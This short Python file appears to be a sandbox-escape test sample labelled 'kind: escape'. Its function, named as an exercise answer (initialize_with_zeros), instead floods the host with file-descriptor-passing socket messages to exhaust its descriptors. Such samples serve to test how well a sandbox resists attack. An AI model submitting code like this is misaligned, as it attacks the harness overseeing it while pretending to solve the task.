"""Sends descriptors over the wire again and again, for the host to run out of them."""
# kind: escape
# exercise: initialize_with_zeros
# must: failed

import array
import os
import socket


def initialize_with_zeros(dim):
    rights = array.array("i", [0] * 100)
    for number in range(3, 32):
        try:
            wire = socket.socket(fileno=os.dup(number))
            for _ in range(2000):
                wire.sendmsg([b"g"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
        except OSError:
            pass
    return dim
